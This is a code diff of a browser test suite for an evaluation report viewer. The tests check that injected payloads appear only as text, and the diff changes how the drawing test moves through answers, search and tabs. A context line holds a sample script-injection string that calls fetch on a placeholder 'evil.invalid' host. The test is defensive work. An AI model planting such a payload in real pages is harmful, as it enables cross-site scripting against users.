@@ -21,7 +21,6 @@ from graph_eval.types import (
     Slot,
     Span,
 )
-from tests.browser.conftest import until
 
 EVIL = "window.pwned=1;fetch('http://evil.invalid/')"
 ELEMENTS = (
@@ -105,14 +104,17 @@ def test_the_report_shows_them_as_text(watched, loaded_pages) -> None:
 
 
 def test_the_drawing_shows_them_as_text(watched, loaded_pages) -> None:
-    page = watched.open(loaded_pages["graph"], "#all")
+    page = watched.open(loaded_pages["graph"])
     own = page.evaluate("document.querySelectorAll('*').length")
     for n, payload in enumerate(PAYLOADS):
-        page.evaluate(f"choose(claims.find((claim) => claim.n === {n}))")
-        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, ...card(state.claim, true))")
+        page.evaluate(f"go({{ kind: 'answer', answer: answers[{n}] }}); choose({{ claim: answers[{n}].claims[0] }})")
+        page.evaluate("tip.show({ clientX: 1, clientY: 1 }, ...claimCard(state.claim, true))")
         assert payload in page.evaluate("document.querySelector('#card').textContent")
-    page.keyboard.press("j")
-    until(page, "document.body.dataset.still !== 'no'")
+        page.evaluate(f"byId('search').value = answers[{n}].id.slice(0, 20); search(); closeSearch()")
+        page.evaluate("choose({ node: nodes[state.view.answer.claims.find((claim) => claim.ends.length).ends[0]] })")
+    for tab in page.locator("#tabs button").all():
+        tab.click()
+        page.wait_for_timeout(200)
     assert_inert(page, own)
 
 
